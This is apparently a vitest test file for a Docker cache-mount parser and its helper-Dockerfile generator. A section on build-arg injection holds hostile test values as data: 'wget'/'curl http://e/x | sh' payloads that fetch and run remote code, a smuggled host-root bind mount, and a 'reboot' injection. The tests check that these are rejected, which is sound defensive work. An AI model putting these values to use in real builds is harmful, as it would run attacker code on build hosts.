import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseDockerfile } from '../../src/dockerfile/parse.js';
import {
  argValues,
  cacheMountProblem,
  cacheMountsIn,
  extractDockerfile,
  helperArgv,
  injectDockerfile,
  mountDir,
  parseCacheMounts,
  type CacheMount,
} from '../../src/cache/mounts.js';

const ROOT = join(import.meta.dirname, '../..');

function found(text: string, buildArgs: string[] = []) {
  const parsed = parseDockerfile(text);
  return cacheMountsIn(parsed, argValues(parsed, buildArgs));
}

describe('cacheMountsIn', () => {
  test('the reference Dockerfile: the Go build cache and module cache, once each', () => {
    const text = readFileSync(join(ROOT, 'Dockerfile'), 'utf8');
    expect(found(text)).toEqual({
      mounts: [{ id: '/go/pkg/mod' }, { id: '/root/.cache/go-build' }],
      skipped: [],
    });
  });

  test.each<[string, string, string[], CacheMount[], string[]]>([
    ['id defaults to the cleaned target', 'RUN --mount=type=cache,target=/a/b/ x', [], [{ id: '/a/b' }], []],
    ['dst spelling', 'RUN --mount=type=cache,dst=/a//c x', [], [{ id: '/a/c' }], []],
    [
      'explicit id wins, kept as written',
      'RUN --mount=type=cache,id=npm,target=/root/.npm x',
      [],
      [{ id: 'npm' }],
      [],
    ],
    [
      'uid/gid/mode are part of the identity',
      'RUN --mount=type=cache,target=/c,uid=1000,gid=1000,mode=0755 x\nRUN --mount=type=cache,target=/c x',
      [],
      [{ id: '/c', uid: '1000', gid: '1000', mode: '0755' }, { id: '/c' }],
      [],
    ],
    ['other mount types ignored', 'RUN --mount=type=bind,target=/s --mount=type=secret,id=t x', [], [], []],
    ['the default type (bind) is ignored', 'RUN --mount=target=/s x', [], [], []],
    [
      'from= cannot be reproduced',
      'RUN --mount=type=cache,target=/c,from=deps x',
      [],
      [],
      ['2: cache mount seeded from deps (from=) is not carried'],
    ],
    [
      'ARG default fills the id',
      'ARG CACHE=/cache/x\nRUN --mount=type=cache,target=${CACHE} x',
      [],
      [{ id: '/cache/x' }],
      [],
    ],
    [
      'build-arg overrides the default',
      'ARG CACHE=/cache/x\nRUN --mount=type=cache,id=$CACHE,target=/c x',
      ['CACHE=/y'],
      [{ id: '/y' }],
      [],
    ],
    [
      'a per-platform id is skipped',
      'RUN --mount=type=cache,id=go-$TARGETARCH,target=/c x',
      [],
      [],
      ['2: cache mount id "go-$TARGETARCH" depends on a value not known before the build'],
    ],
  ])('%s', (_name, body, args, mounts, skipped) => {
    const r = found(`FROM scratch\n${body}\n`, args);
    expect(r.mounts).toEqual(mounts);
    expect(r.skipped.map((s) => `${s.line}: ${s.reason}`)).toEqual(skipped);
  });
});

describe('build-arg text cannot reach a helper Dockerfile (#19)', () => {
  const HOSTILE = [
    ['a shell command after the id', 'x true; wget http://e/x | sh #', 'wget'],
    ['a whole instruction after a newline', 'x\nRUN curl http://e/x | sh', 'curl'],
    ['another mount option', 'x,target=/etc', '/etc'],
    ['a quote', 'x"Hunter2', 'Hunter2'],
  ];

  test.each(HOSTILE)(
    'id: %s → skipped with a warning naming the line and field, not the value',
    (_n, value, marker) => {
      const r = found('FROM scratch\nARG CACHE=npm\nRUN --mount=type=cache,id=$CACHE,target=/c x\n', [
        `CACHE=${value}`,
      ]);
      expect(r.mounts).toEqual([]);
      expect(r.skipped).toEqual([
        {
          line: 3,
          reason: 'cache mount id is not letters, digits and . _ / : @ + - only; the mount is not carried',
          invalid: true,
        },
      ]);
      // and what the helpers are given holds none of it
      const text = injectDockerfile('busybox:1.36', r.mounts) + extractDockerfile('busybox:1.36', r.mounts);
      expect(text).not.toContain(marker);
      expect(text.split('\n').filter((l) => l.startsWith('RUN --mount'))).toEqual([]);
    },
  );

  test('a hostile target (the default id) is skipped too', () => {
    const r = found('FROM scratch\nARG T=/c\nRUN --mount=type=cache,target=$T x\n', [
      'T=/c true; wget http://e/x | sh #',
    ]);
    expect(r.mounts).toEqual([]);
    expect(r.skipped.map((s) => `${s.line}: ${s.reason}`)).toEqual([
      '3: cache mount id is not letters, digits and . _ / : @ + - only; the mount is not carried',
    ]);
  });

  test.each([
    ['uid', '0 --mount=type=bind,source=/,target=/host', 'uid is not decimal digits only'],
    ['gid', '1000\nRUN id', 'gid is not decimal digits only'],
    ['mode', '0755;reboot', 'mode is not an octal mode such as 0755'],
  ])('%s from a build-arg: digits only', (field, value, why) => {
    const r = found(`FROM scratch\nARG V\nRUN --mount=type=cache,target=/c,${field}=$V x\n`, [`V=${value}`]);
    expect(r.mounts).toEqual([]);
    expect(r.skipped).toEqual([
      { line: 3, reason: `cache mount ${why}; the mount is not carried`, invalid: true },
    ]);
  });

  test.each<[CacheMount, string | undefined]>([
    [{ id: '/root/.cache/go-build' }, undefined],
    [{ id: 'go-mod@v1:cache+x', uid: '1000', gid: '0', mode: '0755' }, undefined],
    [{ id: 'npm', mode: '755' }, undefined],
    [{ id: '-x' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
    [{ id: 'a=b' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
    [{ id: 'a\\b' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
    [{ id: 'a', uid: '-1' }, 'cache mount uid is not decimal digits only'],
    [{ id: 'a', mode: '0999' }, 'cache mount mode is not an octal mode such as 0755'],
    [{ id: 'a', mode: '07' }, 'cache mount mode is not an octal mode such as 0755'],
  ])('cacheMountProblem(%j)', (m, why) => {
    expect(cacheMountProblem(m)).toBe(why);
  });

  test('the helper Dockerfiles refuse an unchecked mount outright', () => {
    const bad = { id: 'x true; wget http://e/x | sh #' };
    expect(() => injectDockerfile('busybox:1.36', [bad])).toThrow(/cache mount id is not/);
    expect(() => extractDockerfile('busybox:1.36', [bad])).toThrow(/cache mount id is not/);
    expect(() => injectDockerfile('busybox:1.36', [bad])).not.toThrow(/wget/);
  });
});

test.each<[string[], CacheMount[]]>([
  [['/root/.cache/go-build'], [{ id: '/root/.cache/go-build' }]],
  [['id=gomod,uid=1000,gid=1000'], [{ id: 'gomod', uid: '1000', gid: '1000' }]],
  [['target=/c, mode=0700'], [{ id: '/c', mode: '0700' }]],
  [['/a', '/a', 'uid=1'], [{ id: '/a' }]],
])('parseCacheMounts(%j)', (lines, mounts) => {
  expect(parseCacheMounts(lines)).toEqual(mounts);
});

describe('mountDir', () => {
  test.each<[CacheMount, RegExp]>([
    [{ id: '/root/.cache/go-build' }, /^root_.cache_go-build-[0-9a-f]{8}$/],
    [{ id: 'npm' }, /^npm-[0-9a-f]{8}$/],
    [{ id: '///' }, /^cache-[0-9a-f]{8}$/],
  ])('%j → %s', (m, re) => {
    expect(mountDir(m)).toMatch(re);
  });

  test('ids that sanitise alike, or differ only in uid, get different directories', () => {
    const dirs = [{ id: '/a/b' }, { id: '/a_b' }, { id: '/a/b', uid: '1' }].map(mountDir);
    expect(new Set(dirs).size).toBe(3);
  });
});

const GO = { id: '/root/.cache/go-build' };
const NPM = { id: 'npm', uid: '1000', gid: '1000', mode: '0755' };

test('injectDockerfile: one RUN per mount, same identity, bind from the context', () => {
  expect(injectDockerfile('busybox:1.36', [GO, NPM]).split('\n')).toEqual([
    'FROM busybox:1.36',
    'ARG CROSSBUILD_CACHE_DANCE',
    `RUN --mount=type=cache,id=/root/.cache/go-build,target=/cache/0 --mount=type=bind,source=${mountDir(GO)},target=/seed/0 cp -a /seed/0/. /cache/0/`,
    `RUN --mount=type=cache,id=npm,target=/cache/1,uid=1000,gid=1000,mode=0755 --mount=type=bind,source=${mountDir(NPM)},target=/seed/1 cp -a /seed/1/. /cache/1/`,
    '',
  ]);
});

test('extractDockerfile: copies into /out/DIR, writable, exported from scratch', () => {
  expect(extractDockerfile('127.0.0.1:5000/fixtures/base:1', [GO]).split('\n')).toEqual([
    'FROM 127.0.0.1:5000/fixtures/base:1 AS extract',
    'ARG CROSSBUILD_CACHE_DANCE',
    'RUN mkdir -p /out',
    `RUN --mount=type=cache,id=/root/.cache/go-build,target=/cache/0 mkdir -p /out/${mountDir(GO)} && cp -a /cache/0/. /out/${mountDir(GO)}/ && chmod -R u+w /out/${mountDir(GO)}`,
    'FROM scratch',
    'COPY --from=extract /out/ /',
    '',
  ]);
});

test.each<[Parameters<typeof helperArgv>[0], string[]]>([
  [
    { builder: '', nonce: 'n1', context: '/rt/m', file: '/rt/m.inject.Dockerfile' },
    [
      '--build-arg',
      'CROSSBUILD_CACHE_DANCE=n1',
      '--output',
      'type=cacheonly',
      '--file',
      '/rt/m.inject.Dockerfile',
      '--',
      '/rt/m',
    ],
  ],
  [
    {
      builder: 'cb',
      nonce: 'n2',
      context: '/rt/m-new',
      dest: '/rt/m-new',
      file: '/rt/m-new.extract.Dockerfile',
    },
    [
      '--builder',
      'cb',
      '--build-arg',
      'CROSSBUILD_CACHE_DANCE=n2',
      '--output',
      'type=local,dest=/rt/m-new',
      '--file',
      '/rt/m-new.extract.Dockerfile',
      '--',
      '/rt/m-new',
    ],
  ],
])('helperArgv %j', (h, tail) => {
  expect(helperArgv(h)).toEqual(['buildx', 'build', '--progress', 'plain', ...tail]);
});
